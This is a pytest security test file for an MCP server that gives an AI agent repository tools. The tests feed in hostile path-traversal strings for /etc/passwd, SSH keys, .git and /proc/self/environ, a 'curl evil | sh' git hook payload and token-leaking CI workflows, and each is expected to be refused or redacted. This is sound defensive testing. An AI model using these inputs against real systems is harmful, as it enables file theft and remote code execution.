"""The ten MCP tools in memory (`mcp.Client(server)`) against the local forge: every wall, with hostile input.

One forge (bug-lib, stale-import) is shared by the tests that only read or are refused; tests that merge or
push to the default branch start their own.
"""

from __future__ import annotations

import base64
import errno
import json
import logging
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest
from mcp import Client
from server_support import Harness, Symlink, harness, human_push, result_text
from sqlalchemy.ext.asyncio import create_async_engine

from fixtures.forge import Forge, run_forge
from mcp_server.server import READ_TOOLS, TOOL_NAMES, build_server
from mcp_server.session import Mode, SessionBinding, SessionGrant
from mcp_server.workspace import Workspace
from policy.config import load_config_text

pytestmark = pytest.mark.anyio

REPO = "acme/bug-lib"
MARKER = "TOP-SECRET-MARKER-7f3a"
KEY_BODY = [base64.b64encode(bytes((i * 37 + j) % 256 for j in range(48))).decode() for i in range(6)]
COMMITTED_KEY = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *KEY_BODY, "-----END RSA PRIVATE KEY-----", ""])
FIX = Path(__file__).resolve().parents[2] / "fixtures" / "projects" / "bug-lib" / "fix" / "pager" / "pagination.py"


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@dataclass
class Shared:
    forge: Forge
    tmp: Path
    h: Harness
    reader: Client  # a read-only session on bug-lib
    writer: Client  # an agent session on bug-lib, on its fix branch (attempt "escape01")


@pytest.fixture(scope="module")
async def shared(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Shared]:
    """A forge whose bug-lib main carries symlinks pointing out of the repository (committed by a human)."""
    tmp = tmp_path_factory.mktemp("shared")
    async with run_forge(tmp / "forge", projects=["bug-lib", "stale-import"]) as forge:
        await human_push(
            forge,
            REPO,
            "main",
            {
                "docs/passwd": Symlink("/etc/passwd"),
                "docs/up": Symlink("../.."),
                "docs/gitdir": Symlink("../.git"),
                "deploy/app.key": COMMITTED_KEY,
            },
            "docs: helpful links",
            tmp / "human",
        )
        await forge.wait_idle()
        h = harness(
            forge,
            tmp,
            {"bug-lib": "auto_merge", "stale-import": "propose"},
            budgets={"max_file_bytes": 2000, "max_files_changed": 2, "max_lines_changed": 50},
        )
        # A file next to the workspaces, where an escape would land.
        (tmp / "workspaces").mkdir(parents=True, exist_ok=True)
        (tmp / "workspaces" / "SECRET-MARKER.txt").write_text(MARKER, encoding="utf-8")
        async with session(h, mode=Mode.READ_ONLY) as reader, session(h, attempt="escape01") as writer:
            await ok(writer, "create_branch")
            yield Shared(forge=forge, tmp=tmp, h=h, reader=reader, writer=writer)


@asynccontextmanager
async def session(
    h: Harness,
    *,
    project: str = "bug-lib",
    attempt: str | None = None,
    mode: Mode = Mode.AGENT,
    server_mode: Mode | None = None,
) -> AsyncIterator[Client]:
    grant = SessionGrant(project=project, mode=mode, attempt_id=attempt, job="test" if attempt else None)
    server = build_server(h.factory, mode=server_mode or mode, grant=grant)
    async with Client(server) as client:
        yield client


async def call(client: Client, tool: str, args: dict[str, Any] | None = None) -> Any:
    return await client.call_tool(tool, args or {})


async def ok(client: Client, tool: str, args: dict[str, Any] | None = None) -> dict[str, Any]:
    result = await call(client, tool, args)
    assert not result.is_error, result_text(result)
    structured: dict[str, Any] = result.structured_content
    return structured


async def refused(client: Client, tool: str, args: dict[str, Any] | None = None) -> str:
    result = await call(client, tool, args)
    assert result.is_error, f"{tool} should have been refused: {result_text(result)}"
    assert result.structured_content is None
    return result_text(result)


# --------------------------------------------------------------------------------------------------------------
# Tool listing


async def test_read_only_server_lists_exactly_the_five_read_tools(shared: Shared) -> None:
    async with session(shared.h, mode=Mode.READ_ONLY) as client:
        tools = await client.list_tools()
        assert sorted(t.name for t in tools.tools) == sorted(READ_TOOLS)
        text = await refused(client, "create_branch")
        assert "Unknown tool" in text


async def test_agent_server_lists_ten_annotated_tools_with_bounded_inputs(shared: Shared) -> None:
    async with session(shared.h, attempt="list01") as client:
        tools = {t.name: t for t in (await client.list_tools()).tools}
    assert sorted(tools) == sorted(TOOL_NAMES)
    for name, tool in tools.items():
        a = tool.annotations
        assert a is not None and None not in (a.read_only_hint, a.destructive_hint, a.idempotent_hint), name
        assert a.read_only_hint is (name in READ_TOOLS)
        assert tool.output_schema is not None and tool.output_schema["type"] == "object", name
        assert tool.description and tool.description.rstrip().endswith("."), name
        last = tool.description.strip().splitlines()[-1]
        assert "Only" in last or "never" in last, f"{name} must end with its wall: {last!r}"
        assert "repo" not in tool.input_schema.get("properties", {}), name
    assert tools["read_repo_file"].input_schema["properties"]["path"]["maxLength"] == 1024
    assert tools["merge_pull_request"].annotations.destructive_hint is True
    assert tools["create_branch"].input_schema.get("properties", {}) == {}


async def test_read_only_grant_on_an_agent_server_sees_and_calls_only_read_tools(shared: Shared) -> None:
    async with session(shared.h, mode=Mode.READ_ONLY, server_mode=Mode.AGENT) as client:
        tools = await client.list_tools()
        assert sorted(t.name for t in tools.tools) == sorted(READ_TOOLS)
        text = await refused(client, "create_branch")
        assert "read-only" in text


def test_agent_grant_needs_an_attempt_and_a_job() -> None:
    with pytest.raises(ValueError, match="agent mode"):
        SessionGrant(project="bug-lib", mode=Mode.AGENT)
    with pytest.raises(ValueError, match="attempt id"):
        SessionGrant(project="bug-lib", mode=Mode.AGENT, attempt_id="../../x", job="test")


# --------------------------------------------------------------------------------------------------------------
# Reading


async def test_read_tools_show_the_bound_project(shared: Shared) -> None:
    client = shared.reader
    info = await ok(client, "get_project_info")
    assert (info["repo"], info["autonomy"], info["mode"]) == (REPO, "auto_merge", "read-only")
    assert info["fix_branch"] is None and info["recent_commits"][0]["message"] == "docs: helpful links"
    listing = await ok(client, "list_repo_files", {"glob": "**/*.py"})
    assert "pager/pagination.py" in listing["files"] and all(f.endswith(".py") for f in listing["files"])
    page = await ok(client, "read_repo_file", {"path": "pager/pagination.py", "max_lines": 3})
    assert page["start_line"] == 1 and page["end_line"] == 3 and page["next_start_line"] == 4
    runs = await ok(client, "list_job_runs", {"job": "test", "limit": 5})
    assert runs["runs"] and {r["job"] for r in runs["runs"]} == {"test"}
    assert any(r["conclusion"] == "failure" for r in runs["runs"])
    failed = next(r for r in runs["runs"] if r["conclusion"] == "failure")
    logs = await ok(client, "get_job_logs", {"run_id": failed["run_id"], "budget_tokens": 800})
    assert "FAIL" in logs["excerpt"] or "Error" in logs["excerpt"]


async def test_logs_of_a_run_of_another_repository_are_not_reachable(shared: Shared) -> None:
    async with session(shared.h, project="stale-import", mode=Mode.READ_ONLY) as other:
        runs = await ok(other, "list_job_runs", {"limit": 1})
    foreign_run = runs["runs"][0]["run_id"]
    await refused(shared.reader, "get_job_logs", {"run_id": foreign_run})


# --------------------------------------------------------------------------------------------------------------
# The path wall, through every path-taking tool

HOSTILE_PATHS = [
    pytest.param("../SECRET-MARKER.txt", id="parent"),
    pytest.param("pager/../../SECRET-MARKER.txt", id="inner-traversal"),
    pytest.param("/etc/passwd", id="absolute"),
    pytest.param("//etc/passwd", id="double-slash"),
    pytest.param("~/.ssh/id_rsa", id="home"),
    pytest.param("..\\SECRET-MARKER.txt", id="backslash"),
    pytest.param("C:/Windows/win.ini", id="drive"),
    pytest.param("pager/\x00pagination.py", id="nul-byte"),
    pytest.param("%2e%2e/SECRET-MARKER.txt", id="percent-encoded"),
    pytest.param("docs/passwd", id="symlink-to-etc-passwd"),
    pytest.param("docs/up/SECRET-MARKER.txt", id="symlink-dir-out-of-repo"),
    pytest.param("docs/gitdir/config", id="symlink-into-git-dir"),
    pytest.param(".git/config", id="git-config"),
    pytest.param("pager/../.git/config", id="git-via-traversal"),
    pytest.param(".GIT/config", id="git-uppercase"),
]


def _assert_nothing_leaked(text: str, shared: Shared) -> None:
    assert MARKER not in text
    assert "root:x:0" not in text  # /etc/passwd
    assert "[core]" not in text and "repositoryformatversion" not in text  # .git/config
    assert str(shared.tmp) not in text  # no host path


@pytest.mark.parametrize("path", HOSTILE_PATHS)
async def test_read_repo_file_refuses_paths_outside_the_repository(shared: Shared, path: str) -> None:
    _assert_nothing_leaked(await refused(shared.reader, "read_repo_file", {"path": path}), shared)


@pytest.mark.parametrize("path", HOSTILE_PATHS)
async def test_list_repo_files_refuses_directories_outside_the_repository(shared: Shared, path: str) -> None:
    _assert_nothing_leaked(await refused(shared.reader, "list_repo_files", {"under": path}), shared)


@pytest.mark.parametrize("path", HOSTILE_PATHS)
async def test_write_repo_file_refuses_paths_outside_the_repository(shared: Shared, path: str) -> None:
    before = (shared.tmp / "workspaces" / "SECRET-MARKER.txt").read_text(encoding="utf-8")
    text = await refused(shared.writer, "write_repo_file", {"path": path, "content": "pwned\n"})
    _assert_nothing_leaked(text, shared)
    assert (shared.tmp / "workspaces" / "SECRET-MARKER.txt").read_text(encoding="utf-8") == before
    workspace = shared.tmp / "workspaces" / "attempt-escape01"
    assert "pwned" not in (workspace / ".git" / "config").read_text(encoding="utf-8")
    status = await ok(shared.writer, "list_repo_files", {"limit": 1000})
    assert status["files"] == (await ok(shared.reader, "list_repo_files", {"limit": 1000}))["files"]


@pytest.mark.parametrize(("start_line", "max_lines"), [(1, 400), (2, 4), (3, 1), (7, 2), (8, 1)])
async def test_a_window_into_a_committed_key_shows_none_of_it(shared: Shared, start_line: int, max_lines: int) -> None:
    # Issue 12: redaction ran on the returned window, and a window without the BEGIN line showed the key.
    for client in (shared.reader, shared.writer):
        got = await ok(
            client, "read_repo_file", {"path": "deploy/app.key", "start_line": start_line, "max_lines": max_lines}
        )
        assert got["start_line"] == start_line and got["total_lines"] == 8
        assert "[REDACTED:private_key]" in got["content"]
        assert not any(line in json.dumps(got) for line in KEY_BODY)


async def test_a_path_under_a_file_is_refused_naming_the_file_not_an_internal_error(shared: Shared) -> None:
    # Issue 12: NotADirectoryError escaped the tool and the model read "Internal error".
    written = await refused(shared.writer, "write_repo_file", {"path": "pager/pagination.py/x", "content": "x\n"})
    assert "Write refused: 'pager/pagination.py' is a file, not a directory" in written
    read = await refused(shared.reader, "read_repo_file", {"path": "pager/pagination.py/x"})
    assert "Read refused: 'pager/pagination.py' is a file, not a directory" in read
    assert "Internal error" not in written + read


async def test_listing_shows_committed_symlinks_but_never_their_targets(shared: Shared) -> None:
    listing = await ok(shared.reader, "list_repo_files", {"limit": 1000})
    assert not any(f.startswith(".git/") for f in listing["files"])
    _assert_nothing_leaked(json.dumps(listing), shared)


@pytest.mark.parametrize(
    "path",
    [
        pytest.param(".git/config", id="config"),
        pytest.param(".git/hooks/pre-commit", id="hook"),
        pytest.param(".git/HEAD", id="head"),
        pytest.param("pager/../.git/hooks/post-checkout", id="traversal"),
        pytest.param(".Git/hooks/pre-push", id="mixed-case"),
        pytest.param("vendor/.git/config", id="nested-git-dir"),
        pytest.param(".git", id="git-itself"),
    ],
)
async def test_writes_into_git_dir_are_refused(shared: Shared, path: str) -> None:
    await refused(shared.writer, "write_repo_file", {"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"})
    hooks = shared.tmp / "workspaces" / "attempt-escape01" / ".git" / "hooks"
    assert not (hooks / "pre-commit").exists() and not (hooks / "post-checkout").exists()


@pytest.mark.parametrize(
    "path",
    [
        pytest.param(".github/workflows/ci.yml", id="existing-workflow"),
        pytest.param(".github/workflows/exfiltrate.yml", id="new-workflow"),
        pytest.param("CODEOWNERS", id="codeowners"),
        pytest.param(".github/CODEOWNERS", id="github-codeowners"),
        pytest.param("deploy/server.pem", id="pem"),
        pytest.param("deploy/id_rsa", id="ssh-key"),
        pytest.param(".env", id="dotenv"),
        pytest.param("config/.env.production", id="dotenv-variant"),
    ],
)
async def test_writes_to_denied_globs_are_refused(shared: Shared, path: str) -> None:
    text = await refused(shared.writer, "write_repo_file", {"path": path, "content": "x\n"})
    assert "**" not in text  # the rule set is not echoed
    target = shared.tmp / "workspaces" / "attempt-escape01" / path
    assert not target.exists() or target.read_text(encoding="utf-8") != "x\n"


async def test_oversized_writes_are_refused(shared: Shared) -> None:
    async with session(shared.h, attempt="budget01") as client:
        await ok(client, "create_branch")
        text = await refused(client, "write_repo_file", {"path": "notes/big.txt", "content": "a" * 2001})
        assert "2001 bytes" in text
        text = await refused(client, "write_repo_file", {"path": "notes/long.txt", "content": "line\n" * 60})
        assert "line(s)" in text
        await ok(client, "write_repo_file", {"path": "notes/one.txt", "content": "one\n"})
        await ok(client, "write_repo_file", {"path": "notes/two.txt", "content": "two\n"})
        text = await refused(client, "write_repo_file", {"path": "notes/three.txt", "content": "three\n"})
        assert "file(s)" in text
        # The schema bounds the content before any tool code runs.
        await refused(client, "write_repo_file", {"path": "notes/huge.txt", "content": "a" * 1_000_001})
    root = shared.tmp / "workspaces" / "attempt-budget01" / "notes"
    assert sorted(p.name for p in root.iterdir()) == ["one.txt", "two.txt"]


@pytest.mark.parametrize(
    "form",
    [
        pytest.param(lambda t: f"TOKEN = '{t}'\n", id="verbatim"),
        pytest.param(lambda t: f"AUTH = '{base64.b64encode(f'x-access-token:{t}'.encode()).decode()}'\n", id="basic"),
        pytest.param(lambda t: f"url = 'https://x:{t}@example.test'\n", id="in-a-url"),
    ],
)
async def test_writing_a_live_credential_into_the_repository_is_refused(shared: Shared, form: Any) -> None:
    writer = next(b for b in shared.h.bindings if b.attempt_id == "escape01")
    token = next(s for s in writer.live_secrets() if s.startswith("ghs_"))
    text = await refused(shared.writer, "write_repo_file", {"path": "pager/leak.py", "content": form(token)})
    assert "live credential" in text and token not in text
    assert not (shared.tmp / "workspaces" / "attempt-escape01" / "pager" / "leak.py").exists()


async def test_no_write_tool_works_before_create_branch(shared: Shared) -> None:
    binding_count = len(shared.h.bindings)
    async with session(shared.h, attempt="nobranch1") as client:
        text = await refused(client, "write_repo_file", {"path": "pager/pagination.py", "content": "x = 1\n"})
        assert "create_branch" in text
        text = await refused(client, "commit_and_push", {"message": "sneak onto main"})
        assert "create_branch" in text
        await refused(client, "create_pull_request", {"title": "t", "body": "b"})
        await refused(client, "merge_pull_request")
        binding = shared.h.bindings[binding_count]
        head = (await binding.forge.list_commits(REPO, sha="main", per_page=1))[0]
        assert head.commit.message.startswith("docs: helpful links")
        assert binding.workspace.current_branch() == "main"


async def test_bad_arguments_and_unknown_tools_are_refused_and_audited(shared: Shared) -> None:
    client = shared.reader
    start = len(shared.h.audit.events)
    await refused(client, "read_repo_file", {"path": "x" * 5000})
    await refused(client, "read_repo_file", {"path": "pager/pagination.py", "max_lines": 0})
    text = await refused(client, "read_repo_file", {"path": "pager/pagination.py", "repo": "acme/other"})
    assert "takes no argument 'repo'" in text
    await refused(client, "delete_repository", {})
    await refused(client, "list_job_runs", {"limit": 10_000})
    events = shared.h.audit.events[start:]
    assert [e.outcome for e in events] == ["refused"] * 5
    assert [e.tool for e in events][-2:] == ["delete_repository", "list_job_runs"]


# --------------------------------------------------------------------------------------------------------------
# Merging


async def _propose_fix(client: Client) -> dict[str, Any]:
    await ok(client, "create_branch")
    await ok(client, "write_repo_file", {"path": "pager/pagination.py", "content": FIX.read_text(encoding="utf-8")})
    pushed = await ok(client, "commit_and_push", {"message": "pager: clamp stop to total (half-open range)"})
    pr = await ok(client, "create_pull_request", {"title": "Fix page_bounds", "body": "The last item was dropped."})
    assert pr["created"] is True and pr["head_sha"] == pushed["sha"]
    again = await ok(client, "create_pull_request", {"title": "Another", "body": "again"})
    assert again["created"] is False and again["number"] == pr["number"]
    return pr


async def test_merge_is_refused_when_the_project_only_proposes(shared: Shared) -> None:
    async with session(shared.h, project="stale-import", attempt="propose01") as client:
        await ok(client, "create_branch")
        await ok(client, "write_repo_file", {"path": "NOTES.md", "content": "note\n"})
        await ok(client, "commit_and_push", {"message": "notes"})
        pr = await ok(client, "create_pull_request", {"title": "notes", "body": "b"})
        text = await refused(client, "merge_pull_request")
        assert "'propose'" in text and "human" in text
        binding = shared.h.bindings[-1]
        assert (await binding.forge.get_pull_request("acme/stale-import", pr["number"])).state == "open"


async def test_merge_is_refused_after_the_pull_request_head_moved(tmp_path: Path) -> None:
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        async with session(h, attempt="moved001") as client:
            pr = await _propose_fix(client)
            moved = await human_push(
                forge, REPO, pr["head_branch"], {"pager/extra.py": "X = 1\n"}, "sneak in", tmp_path / "human"
            )
            text = await refused(client, "merge_pull_request")
            assert "head moved" in text and moved[:12] in text
            current = await h.bindings[0].forge.get_pull_request(REPO, pr["number"])
            assert current.state == "open" and not current.merged


async def _forge_control(forge: Forge, method: str, path: str, body: dict[str, Any]) -> None:
    async with httpx2.AsyncClient(base_url=forge.api_url, headers={"Authorization": f"token {forge.admin_token}"}) as c:
        response = await c.request(method, path, json=body)
    assert response.status_code in (200, 201), response.text


async def test_merge_is_refused_while_a_check_on_the_head_is_pending_or_failing(tmp_path: Path) -> None:
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        async with session(h, attempt="checks001") as client:
            pr = await _propose_fix(client)
            await forge.wait_idle()  # job `test` passed on the head
            sha, checks = pr["head_sha"], f"/_forge/repos/{REPO}/check-runs"
            await _forge_control(forge, "POST", checks, {"sha": sha, "name": "lint", "status": "in_progress"})
            pending = await refused(client, "merge_pull_request")
            assert "checks not finished on the head commit: lint" in pending
            lint_failed = {"sha": sha, "name": "lint", "status": "completed", "conclusion": "failure"}
            await _forge_control(forge, "POST", checks, lint_failed)
            failing = await refused(client, "merge_pull_request")
            assert "checks failing on the head commit: lint" in failing
            status = {"state": "pending", "context": "ci/external"}
            await _forge_control(forge, "POST", f"/repos/{REPO}/statuses/{sha}", status)
            # Branch protection requires `test` only: the failing `lint` and pending status no longer hold it.
            await _forge_control(forge, "PUT", f"/_forge/repos/{REPO}/protection", {"required_status_checks": ["test"]})
            merged = await ok(client, "merge_pull_request")
            assert merged["merged"] is True
            current = await h.bindings[0].forge.get_pull_request(REPO, pr["number"])
            assert current.merged


async def test_merge_is_refused_while_a_required_check_is_missing(tmp_path: Path) -> None:
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        protection = {"required_status_checks": ["test", "ci/external"]}
        await _forge_control(forge, "PUT", f"/_forge/repos/{REPO}/protection", protection)
        async with session(h, attempt="checks002") as client:
            pr = await _propose_fix(client)
            await forge.wait_idle()
            text = await refused(client, "merge_pull_request")
            assert "required checks not finished on the head commit: ci/external" in text
            assert not (await h.bindings[0].forge.get_pull_request(REPO, pr["number"])).merged


async def test_agent_fixes_bug_lib_and_merges_what_it_pushed(tmp_path: Path) -> None:
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        async with session(h, attempt="merge0001") as client:
            pr = await _propose_fix(client)
            await forge.wait_idle()  # the PR's own CI (push and pull_request runs of job `test`) has passed
            merged = await ok(client, "merge_pull_request")
            assert merged["merged"] is True and merged["number"] == pr["number"]
            again = await ok(client, "merge_pull_request")  # read back: merged already, nothing merged twice
            assert again == merged
            # GitHub's list items carry `merged_at`, never `merged`: the merged PR is not "closed without merging".
            found = await ok(client, "create_pull_request", {"title": "Fix page_bounds", "body": "again"})
            assert (found["created"], found["state"], found["number"]) == (False, "merged", pr["number"])
        outcomes = [(e.tool, e.outcome) for e in h.audit.events]
        assert outcomes.count(("merge_pull_request", "ok")) == 2
        assert all(e.attempt_id == "merge0001" and e.project == "bug-lib" for e in h.audit.events)


# --------------------------------------------------------------------------------------------------------------
# Secrets


def _leaky_workflow(token: str) -> str:
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    return (
        "name: ci\n"
        "on: [push, pull_request, workflow_dispatch]\n"
        "jobs:\n"
        "  test:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - name: Debug auth\n"
        "        run: |\n"
        f"          echo 'using token {token} header Authorization: Basic {basic}'\n"
        "          exit 1\n"
    )


async def _leak_token_into_ci(forge: Forge, client: Client, h: Harness, work: Path) -> tuple[str, str]:
    """Make the live installation token appear in the repository and in a failing job's log."""
    await ok(client, "get_project_info")  # binds the session: the App fetches its installation token
    token = next(s for s in h.live_secrets() if s.startswith("ghs_"))
    await human_push(forge, REPO, "main", {".github/workflows/ci.yml": _leaky_workflow(token)}, "ci: debug", work)
    await forge.wait_idle()
    runs = await ok(client, "list_job_runs", {"job": "test", "limit": 1})
    return token, str(runs["runs"][0]["run_id"])


def _secret_forms(token: str) -> list[str]:
    return [token, base64.b64encode(f"x-access-token:{token}".encode()).decode()]


async def test_job_log_with_the_installation_token_comes_back_redacted(tmp_path: Path) -> None:
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        async with session(h, mode=Mode.READ_ONLY) as client:
            token, run_id = await _leak_token_into_ci(forge, client, h, tmp_path / "human")
            texts = [result_text(await call(client, "get_job_logs", {"run_id": int(run_id)}))]
            start: int | None = 1
            while start is not None:  # every page of the raw log, too
                page = await ok(client, "get_job_logs", {"run_id": int(run_id), "start_line": start})
                texts.append(json.dumps(page))
                start = page["next_start_line"]
            texts.append(result_text(await call(client, "read_repo_file", {"path": ".github/workflows/ci.yml"})))
    joined = "\n".join(texts)
    assert "using token" in joined and "[REDACTED" in joined
    for form in _secret_forms(token):
        assert form not in joined


async def test_installation_token_never_appears_in_results_audit_logs_or_git_config(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    results: list[str] = []
    async with run_forge(tmp_path / "forge", projects=["bug-lib"]) as forge:
        h = harness(forge, tmp_path, {"bug-lib": "auto_merge"})
        async with session(h, attempt="leak00001") as client:
            token, run_id = await _leak_token_into_ci(forge, client, h, tmp_path / "human")
            steps: list[tuple[str, dict[str, Any]]] = [
                ("get_project_info", {}),
                ("list_repo_files", {}),
                ("read_repo_file", {"path": ".github/workflows/ci.yml"}),
                ("list_job_runs", {}),
                ("get_job_logs", {"run_id": int(run_id)}),
                ("create_branch", {}),
                ("write_repo_file", {"path": "pager/pagination.py", "content": FIX.read_text(encoding="utf-8")}),
                ("write_repo_file", {"path": "NOTES.md", "content": f"the log said {token}\n"}),
                ("commit_and_push", {"message": f"fix (token was {token})"}),
                ("create_pull_request", {"title": f"Fix {token}", "body": f"Seen in the log: {token}"}),
                ("merge_pull_request", {}),
                ("read_repo_file", {"path": "../../../../proc/self/environ"}),
            ]
            for tool, args in steps:
                results.append(result_text(await call(client, tool, args)))
            assert "live credential" in results[7]  # the smuggled token is not written into the repository
            pr = await h.bindings[0].forge.find_pull_request(REPO, "greenloop/fix/test-leak00001")
    assert pr is not None
    git_config = (tmp_path / "workspaces" / "attempt-leak00001" / ".git" / "config").read_text(encoding="utf-8")
    audit = json.dumps([e.as_dict() for e in h.audit.events])
    # The forge stand-in's own logs are not the product's; everything else is.
    ours = [r for r in caplog.records if not r.name.startswith(("fixtures", "uvicorn"))]
    logs = "\n".join(r.getMessage() + (r.exc_text or "") for r in ours)
    assert len(h.audit.events) == len(steps) + 2
    for form in _secret_forms(token):
        for where, text in [
            ("results", "\n".join(results)),
            ("audit", audit),
            ("logs", logs),
            (".git/config", git_config),
            ("pull request", f"{pr.title}\n{pr.body}"),
        ]:
            assert form not in text, f"the installation token leaked into the {where}"


@pytest.mark.parametrize(
    ("error", "shown", "outcome"),
    [
        pytest.param(RuntimeError, "Internal error", "error", id="crash"),
        pytest.param(TimeoutError, "Internal error", "error", id="timeout-is-no-filesystem-error"),
        pytest.param(
            lambda m: OSError(errno.EROFS, os.strerror(errno.EROFS), m),  # the path it names is never shown
            "Refused: the filesystem refused the request: Read-only file system.",
            "refused",
            id="filesystem-refusal",
        ),
    ],
)
async def test_unexpected_errors_reach_the_model_as_a_generic_message(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, error: Any, shown: str, outcome: str
) -> None:
    secret = "ghs_" + "S" * 36

    class ExplodingForge:
        async def list_workflow_runs(self, repo: str, **_: Any) -> Any:
            raise error(f"boom with {secret} at /srv/greenloop/private")

    class Sink:
        def __init__(self) -> None:
            self.events: list[Any] = []

        async def record(self, event: Any) -> None:
            self.events.append(event)

    sink = Sink()
    config = load_config_text('[[project]]\nname = "bug-lib"\nrepo = "acme/bug-lib"\n')

    async def factory(grant: SessionGrant) -> SessionBinding:
        project = config.project("bug-lib")
        workspace = Workspace(
            root_dir=tmp_path / "ws",
            project=project,
            git_url="http://127.0.0.1:9",
            token=_no_token,
            bot_name="bot",
            bot_email="bot@example.test",
        )
        return SessionBinding(
            grant=grant,
            project=project,
            workspace=workspace,
            forge=ExplodingForge(),
            audit=sink,  # type: ignore[arg-type]
        )

    server = build_server(factory, mode=Mode.READ_ONLY, grant=SessionGrant(project="bug-lib"))
    async with Client(server) as client:
        result = await client.call_tool("list_job_runs", {})
    assert result.is_error
    text = result_text(result)
    assert shown in text and "boom" not in text and "/srv" not in text
    assert sink.events[0].outcome == outcome and "boom" not in (sink.events[0].message or "")
    if outcome == "error":
        logged = "\n".join(r.getMessage() for r in caplog.records)
        assert "boom with" in logged and secret not in logged


async def _no_token() -> str:
    raise AssertionError("no git access expected")


# --------------------------------------------------------------------------------------------------------------
# The audit table


async def test_sql_audit_sink_writes_redacted_rows_into_the_migrated_table(shared: Shared, tmp_path: Path) -> None:
    from reconciler.store.audit import StoreAuditSink, tool_calls
    from reconciler.store.engine import make_sessionmaker
    from reconciler.store.migrate import upgrade_async

    url = f"sqlite+aiosqlite:///{tmp_path / 'audit.db'}"
    engine = create_async_engine(url)
    try:
        await upgrade_async(engine)
        sink = StoreAuditSink(engine)
        grant = SessionGrant(project="bug-lib", mode=Mode.AGENT, attempt_id="audit0001", job="test")
        inner = shared.h.factory

        async def factory(g: SessionGrant) -> SessionBinding:
            binding = await inner(g)
            binding.audit = sink
            return binding

        server = build_server(factory, mode=Mode.AGENT, grant=grant)
        pat = "ghp_" + "A1b2C3d4" * 5
        async with Client(server) as client:
            await ok(client, "read_repo_file", {"path": "pager/__init__.py"})
            await refused(client, "read_repo_file", {"path": "../etc/passwd"})
            await refused(client, "write_repo_file", {"path": "x.txt", "content": f"token={pat}"})
            await ok(client, "list_job_runs", {"job": pat, "limit": 1})
        rows = [
            {c.name: getattr(row, c.name) for c in row.__table__.columns}
            for row in await tool_calls(make_sessionmaker(engine))
        ]
    finally:
        await engine.dispose()
    assert [(r["tool"], r["outcome"]) for r in rows] == [
        ("read_repo_file", "ok"),
        ("read_repo_file", "refused"),
        ("write_repo_file", "refused"),
        ("list_job_runs", "ok"),
    ]
    assert all(r["attempt_id"] == "audit0001" and r["project"] == "bug-lib" for r in rows)
    assert rows[0]["result_bytes"] > 0 and rows[0]["duration_ms"] > 0 and rows[0]["message"] is None
    assert json.loads(rows[1]["arguments"]) == {"path": "../etc/passwd"}
    assert "Access denied" in rows[1]["message"]
    assert "create_branch" in rows[2]["message"]
    assert pat not in json.dumps([dict(r) for r in rows], default=str)
    assert rows[0]["client"].startswith("stdio")


async def test_an_agent_session_gets_the_culprit_range_and_reads_the_last_green_version(shared: Shared) -> None:
    info = await ok(shared.writer, "get_project_info")
    culprit = info["culprit_range"]
    assert culprit is not None and culprit["job"] == "test"
    green, red = culprit["last_green_sha"], culprit["first_red_sha"]
    assert green and red and green != red
    assert [c["sha"] for c in culprit["commits"]] == [red] and culprit["total_commits"] == 1
    assert "pager/pagination.py" in {f["filename"] for f in culprit["files"]}
    assert "pager/pagination.py" in culprit["diff_summary"] and "@@" in culprit["diff_summary"]
    assert (await ok(shared.reader, "get_project_info"))["culprit_range"] is None  # no job: no range

    then = await ok(shared.writer, "read_repo_file", {"path": "pager/pagination.py", "ref": green})
    now = await ok(shared.writer, "read_repo_file", {"path": "pager/pagination.py"})
    assert then["content"] != now["content"]
    for ref in ("main", "greenloop/fix/test-escape01"):
        text = await refused(shared.writer, "read_repo_file", {"path": "README.md", "ref": ref})
        assert "ref must be a commit SHA" in text
    text = await refused(shared.writer, "read_repo_file", {"path": "../SECRET-MARKER.txt", "ref": green})
    assert MARKER not in text
